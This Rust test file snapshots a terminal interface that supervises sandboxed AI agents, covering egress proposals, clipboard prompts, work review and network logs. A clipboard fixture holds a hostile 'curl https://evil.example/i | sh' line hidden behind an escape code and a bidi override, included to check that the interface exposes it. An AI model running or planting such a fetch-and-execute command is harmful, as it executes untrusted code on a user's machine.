//! The workspace drawn into a TestBackend at the sizes people use, and
//! every modal, as insta snapshots.

use ratatui::backend::TestBackend;
use ratatui::layout::Rect;
use ratatui::Terminal;

use super::render;
use crate::plan::{self, BackendKind, FixedHost};
use crate::session::{RecordingIo, Session, SharedTerm, Term};
use crate::supervise::{EgressRequest, Proposal, Request};
use crate::tui::app::{App, Entry, Paths, Phase, ScrollMode};
use crate::tui::config::Config;
use crate::tui::modal::{BackendChoice, Modal, PickItem, Picker, PreflightModal, ProposalModal};

pub(crate) fn app(w: u16, h: u16) -> App {
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    App::new(
        Paths::default(),
        Config::default(),
        Vec::new(),
        Rect::new(0, 0, w, h),
        tx,
    )
}

pub(crate) fn session(id: u64, rows: u16, cols: u16, output: &str) -> Session {
    let mut term = Term::new(rows, cols, 1000);
    term.feed(output.as_bytes());
    Session::new(id, SharedTerm::new(term), Box::new(RecordingIo::default()))
}

pub(crate) fn entry(agent: &str, slug: &str, phase: Phase, session: Option<Session>) -> Entry {
    let mut e = Entry::new(
        slug.into(),
        agent.into(),
        "dev".into(),
        BackendKind::Docker,
        phase,
        None,
    );
    e.session = session;
    e
}

fn proposal() -> Proposal {
    Proposal {
        id: "p1".into(),
        slug: "alpha-abc123".into(),
        agent: "alpha".into(),
        created_at: "2026-11-22T22:00:00Z".into(),
        reason: "pip install needs the package index".into(),
        request: Request::Egress(EgressRequest {
            host: "pypi.org".into(),
            path_allowlist: vec!["/simple/".into()],
        }),
    }
}

/// One agent, alpha, running and focused, its program having written
/// `output`.
pub(crate) fn running(w: u16, h: u16, output: &str) -> App {
    let mut a = app(w, h);
    let (rows, cols) = a.pane_size();
    a.entries.push(entry(
        "alpha",
        "alpha-abc123",
        Phase::Running,
        Some(session(1, rows, cols, output)),
    ));
    a
}

/// Two agents (one running, one exited with unread output), a proposal.
pub(crate) fn busy(w: u16, h: u16) -> App {
    let mut a = running(w, h, "$ echo hello\r\nhello\r\n$ ");
    let (rows, cols) = a.pane_size();
    let mut beta = entry(
        "beta",
        "beta-def456",
        Phase::Exited(Some(0)),
        Some(session(2, rows, cols, "done\r\n")),
    );
    beta.unread = true;
    a.entries.push(beta);
    a.proposals.push(proposal());
    a
}

/// A proposal modal whose bottle's live routes were read.
fn proposal_modal(p: Proposal) -> ProposalModal {
    let mut m = ProposalModal::new(p);
    let mut anthropic = bb_contract::egress::RouteConfig::requested("api.anthropic.com", &[]);
    anthropic.tls_passthrough = true;
    m.with_live(Ok(vec![
        anthropic,
        bb_contract::egress::RouteConfig::requested("pypi.org", &["/packages/".into()]),
    ]));
    m
}

fn draw(a: &App) -> String {
    let mut t = Terminal::new(TestBackend::new(a.area.width, a.area.height)).unwrap();
    t.draw(|f| render(f, a)).unwrap();
    t.backend().to_string()
}

#[test]
fn empty_workspace() {
    insta::assert_snapshot!(draw(&app(80, 24)));
}

#[test]
fn layouts_at_common_sizes() {
    for (w, h) in [(80, 24), (120, 40), (200, 60)] {
        insta::assert_snapshot!(format!("busy_{w}x{h}"), draw(&busy(w, h)));
    }
}

#[test]
fn exited_pane_zoomed_and_sidebar_hidden() {
    let mut a = busy(80, 24);
    a.set_focus(1);
    insta::assert_snapshot!("exited", draw(&a));
    a.zoom = true;
    insta::assert_snapshot!("zoomed", draw(&a));
    a.zoom = false;
    a.sidebar = false;
    insta::assert_snapshot!("no_sidebar", draw(&a));
}

#[test]
fn launching_failed_and_scroll_mode() {
    let mut a = app(80, 24);
    let mut e = entry("alpha", "alpha-abc123", Phase::Launching, None);
    e.log = vec![
        "launching alpha in bottle dev (docker)".into(),
        "building image bb-agent-claude: step 3/7".into(),
    ];
    a.entries.push(e);
    insta::assert_snapshot!("launching", draw(&a));
    a.entries[0].phase =
        Phase::Failed("Docker is not reachable at unix:///var/run/docker.sock".into());
    insta::assert_snapshot!("failed", draw(&a));
    let mut b = busy(80, 24);
    b.scroll = Some(ScrollMode {
        cursor: 1,
        anchor: None,
    });
    insta::assert_snapshot!("scroll_mode", draw(&b));
    b.scroll = None;
    b.armed = true;
    insta::assert_snapshot!("prefix_armed", draw(&b));
}

#[test]
fn modals() {
    let mut a = busy(80, 24);
    a.modal = Some(Modal::Picker(Picker::new(vec![
        PickItem {
            name: "alpha".into(),
            detail: "dev · claude · home".into(),
            running: 1,
        },
        PickItem {
            name: "codex-helper".into(),
            detail: "codex · codex · repo".into(),
            running: 0,
        },
    ])));
    insta::assert_snapshot!("modal_picker", draw(&a));
    a.modal = Some(Modal::Backend(BackendChoice {
        agent: "alpha".into(),
        options: vec![
            crate::backend::Place {
                kind: BackendKind::Docker,
                engine: "default".into(),
            },
            crate::backend::Place {
                kind: BackendKind::Docker,
                engine: "big".into(),
            },
            crate::backend::Place {
                kind: BackendKind::Smolmachines,
                engine: String::new(),
            },
        ],
        selected: 0,
    }));
    insta::assert_snapshot!("modal_backend", draw(&a));
    a.modal = Some(Modal::Preflight(Box::new(preflight())));
    insta::assert_snapshot!("modal_preflight", draw(&a));
    a.modal = Some(Modal::ConfirmStop {
        slug: "alpha-abc123".into(),
        agent: "alpha".into(),
    });
    insta::assert_snapshot!("modal_confirm_stop", draw(&a));
    // A program's clipboard request, escapes and a bidi override shown.
    a.modal = Some(Modal::Clipboard(crate::tui::modal::ClipboardAsk {
        agent: "alpha".into(),
        text: "curl https://evil.example/i | sh\n\x1b[2K# looks\u{202e}harmless".into(),
    }));
    insta::assert_snapshot!("modal_clipboard", draw(&a));
    // An agent's work: the file that acts on the host first, a secret's
    // place, the commits, the diff.
    let mut review =
        crate::tui::modal::review::ReviewView::new("alpha-abc123".into(), "alpha".into(), None);
    use crate::work::review::{Changed, Finding, Review};
    let read = Review {
        commits: vec![("0123456789abcdef".into(), "add the parser".into())],
        files: vec![
            Changed {
                path: ".envrc".into(),
                added: Some(1),
                removed: Some(0),
                flag: crate::work::review::flag(".envrc", false),
            },
            Changed {
                path: "src/parse.rs".into(),
                added: Some(2),
                removed: Some(1),
                flag: None,
            },
        ],
        findings: vec![Finding {
            path: "src/parse.rs".into(),
            line: 2,
            rule: "aws-access-key-id",
        }],
        patches: vec![
            (
                ".envrc".into(),
                vec![
                    "diff --git a/.envrc b/.envrc".into(),
                    "@@ -0,0 +1 @@".into(),
                    "+export PATH=./bin:$PATH".into(),
                ],
            ),
            (
                "src/parse.rs".into(),
                vec![
                    "diff --git a/src/parse.rs b/src/parse.rs".into(),
                    "@@ -1,2 +1,3 @@".into(),
                    " fn parse() {".into(),
                    "-    todo!()".into(),
                    "+    let k = \"AKIA…\";".into(),
                    "+    run(k)".into(),
                ],
            ),
        ],
        uncommitted: true,
        taken: false,
    };
    review.update(crate::tui::event::WorkRead {
        slug: "alpha-abc123".into(),
        review: Some(read),
        error: None,
        live: true,
    });
    a.modal = Some(Modal::Review(Box::new(review)));
    insta::assert_snapshot!("modal_review", draw(&a));
    a.modal = Some(Modal::Help { scroll: 0 });
    insta::assert_snapshot!(
        "modal_help",
        draw(&busy(100, 40).with_modal(Modal::Help { scroll: 0 }))
    );
    let mut pm = proposal_modal(proposal());
    insta::assert_snapshot!(
        "modal_proposal",
        draw(&a.with_modal(Modal::Proposal(Box::new(proposal_modal(proposal())))))
    );
    // Still reading the live routes: nothing to approve yet.
    insta::assert_snapshot!(
        "modal_proposal_reading",
        draw(&busy(80, 24).with_modal(Modal::Proposal(Box::new(ProposalModal::new(proposal())))))
    );
    let plan = preflight().plan;
    let mut a = busy(80, 24);
    a.modal = Some(Modal::Ask(Box::new(crate::tui::modal::AskModal {
        plan,
        questions: vec![(
            "GIT_AUTHOR_NAME".into(),
            "Your name, for the commit log".into(),
        )],
        input: "Ada Lovel".into(),
    })));
    insta::assert_snapshot!("modal_ask", draw(&a));
    pm.reason = Some("use the mirror".into());
    let mut b = busy(80, 24);
    b.modal = Some(Modal::Proposal(Box::new(pm)));
    insta::assert_snapshot!("modal_proposal_reject", draw(&b));
}

fn preflight() -> PreflightModal {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("bottles")).unwrap();
    std::fs::create_dir_all(dir.path().join("agents")).unwrap();
    std::fs::write(
        dir.path().join("bottles/dev.md"),
        "---\negress:\n  allowlist: [github.com]\n---\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("agents/alpha.md"),
        "---\nbottle: dev\n---\nHelp.\n",
    )
    .unwrap();
    let m = crate::manifest::load(&crate::manifest::Layout {
        home: dir.path().into(),
        repo: None,
    });
    let (agent, bottle) = m.agent("alpha").unwrap();
    let host = FixedHost {
        home: "/home/u".into(),
        cwd: "/home/u/src".into(),
        ..Default::default()
    };
    let plan = plan::resolve(agent, bottle, &host, BackendKind::Docker, "abc123");
    let text = crate::preflight::to_text(&plan, dir.path())
        .replace(&dir.path().display().to_string(), "<home>");
    PreflightModal {
        lines: text.lines().map(String::from).collect(),
        plan,
        scroll: 0,
    }
}

impl App {
    fn with_modal(mut self, m: Modal) -> App {
        self.modal = Some(m);
        self
    }
}

#[test]
fn the_footer_shows_direct_jumps_as_configured() {
    let mut a = app(200, 30);
    for (agent, slug) in [("alpha", "alpha-1"), ("beta", "beta-1")] {
        let s = session(1, 10, 10, "");
        a.entries.push(entry(agent, slug, Phase::Running, Some(s)));
    }
    assert!(super::footer::hints(&a).contains("C-b 1-9 / M-1..9 switch"));
    a.config.keymap.direct_jump = Some(crossterm::event::KeyModifiers::CONTROL);
    assert!(super::footer::hints(&a).contains("C-b 1-9 / C-1..9 switch"));
    a.config.keymap.direct_jump = None;
    let hints = super::footer::hints(&a);
    assert!(
        hints.contains("C-b 1-9 switch") && !hints.contains("..9"),
        "{hints}"
    );
}

/// Every state and every modal drawn at every small size, and some odd
/// large ones: nothing panics (a resize can make the screen any size).
#[test]
fn nothing_panics_at_any_size() {
    let modals = || -> Vec<Modal> {
        vec![
            Modal::Picker(Picker::new(vec![PickItem {
                name: "alpha".into(),
                detail: "dev · claude · home".into(),
                running: 1,
            }])),
            Modal::Backend(BackendChoice {
                agent: "alpha".into(),
                options: vec![
                    crate::backend::Place {
                        kind: BackendKind::Docker,
                        engine: "default".into(),
                    },
                    crate::backend::Place {
                        kind: BackendKind::Local,
                        engine: String::new(),
                    },
                ],
                selected: 1,
            }),
            Modal::Preflight(Box::new(preflight())),
            Modal::ConfirmStop {
                slug: "alpha-abc123".into(),
                agent: "alpha".into(),
            },
            Modal::Proposal(Box::new(proposal_modal(proposal()))),
            Modal::Help { scroll: 3 },
            Modal::Network(Box::new(network())),
        ]
    };
    let sizes = (1..=30u16)
        .flat_map(|w| (1..=12u16).map(move |h| (w * 3, h)))
        .chain([(1, 1), (2, 200), (400, 3), (300, 100)]);
    for (w, h) in sizes {
        let mut a = busy(w, h);
        a.scroll = Some(ScrollMode {
            cursor: h,
            anchor: Some(0),
        });
        draw(&a);
        a.scroll = None;
        for m in modals() {
            draw(&app(w, h).with_modal(m));
        }
    }
}

#[test]
fn a_dead_bundle_shows_on_its_row_and_in_its_pane() {
    let mut a = app(100, 24);
    let mut e = entry("alpha", "alpha-abc123", Phase::Detached, None);
    e.active = Some(crate::backend::ActiveBottle {
        engine: String::new(),
        slug: "alpha-abc123".into(),
        agent: "alpha".into(),
        bottle: "dev".into(),
        backend: BackendKind::Docker,
        started_at: None,
        state: crate::backend::BottleState::BundleDown,
        sidecars: vec![],
        down: Some("the sidecar bundle was killed (exit 137: SIGKILL or out of memory)".into()),
        template: None,
    });
    a.entries.push(e);
    let screen = draw(&a);
    assert!(screen.contains("bundle down"), "{screen}");
    // Why, what it costs, and the one key that brings it back.
    assert!(screen.contains("the sidecar bundle was killed"), "{screen}");
    assert!(screen.contains("no egress, no git gate"), "{screen}");
    assert!(screen.contains("C-b r: restart it"), "{screen}");
}

/// A network view with an allowed request and two refusals, the last
/// selected.
fn network() -> crate::tui::modal::NetworkView {
    let mut v =
        crate::tui::modal::NetworkView::new("alpha-abc123".into(), "alpha".into(), Vec::new());
    let line = |host: &str, path: &str, decision: &str, rule: Option<&str>, s: u64| {
        let rule = rule.map_or(String::new(), |r| format!(",\"rule\":\"{r}\""));
        format!(
            "{{\"time_ms\":{},\"client\":\"172.30.0.3:40000\",\"host\":\"{host}\",\"method\":\"GET\",\"path\":\"{path}\",\"decision\":\"{decision}\"{rule}}}",
            1_764_572_977_000u64 + s * 1000
        )
    };
    let records = [
        line("api.anthropic.com", "/v1/messages", "allowed", None, 0),
        line(
            "pypi.org",
            "/simple/requests/",
            "blocked",
            Some("host-not-allowed"),
            1,
        ),
        line(
            "github.com",
            "/other/repo.git/info/refs",
            "blocked",
            Some("path-not-allowed"),
            2,
        ),
    ]
    .iter()
    .map(|l| {
        serde_json::from_str::<crate::audit::AuditRecord>(l)
            .unwrap()
            .into_owned()
    })
    .collect();
    v.add(records);
    v
}

#[test]
fn the_network_view_shows_each_request_and_why_it_was_refused() {
    insta::assert_snapshot!(
        "modal_network",
        draw(&busy(110, 16).with_modal(Modal::Network(Box::new(network()))))
    );
    let mut v = network();
    v.blocked_only = true;
    v.host_filter = "pypi".into();
    v.typing = true;
    let screen = draw(&busy(110, 16).with_modal(Modal::Network(Box::new(v))));
    assert!(
        screen.contains("refused only · host: pypi_ · 1 of 3 requests"),
        "{screen}"
    );
    assert!(!screen.contains("github.com/other"), "{screen}");
}
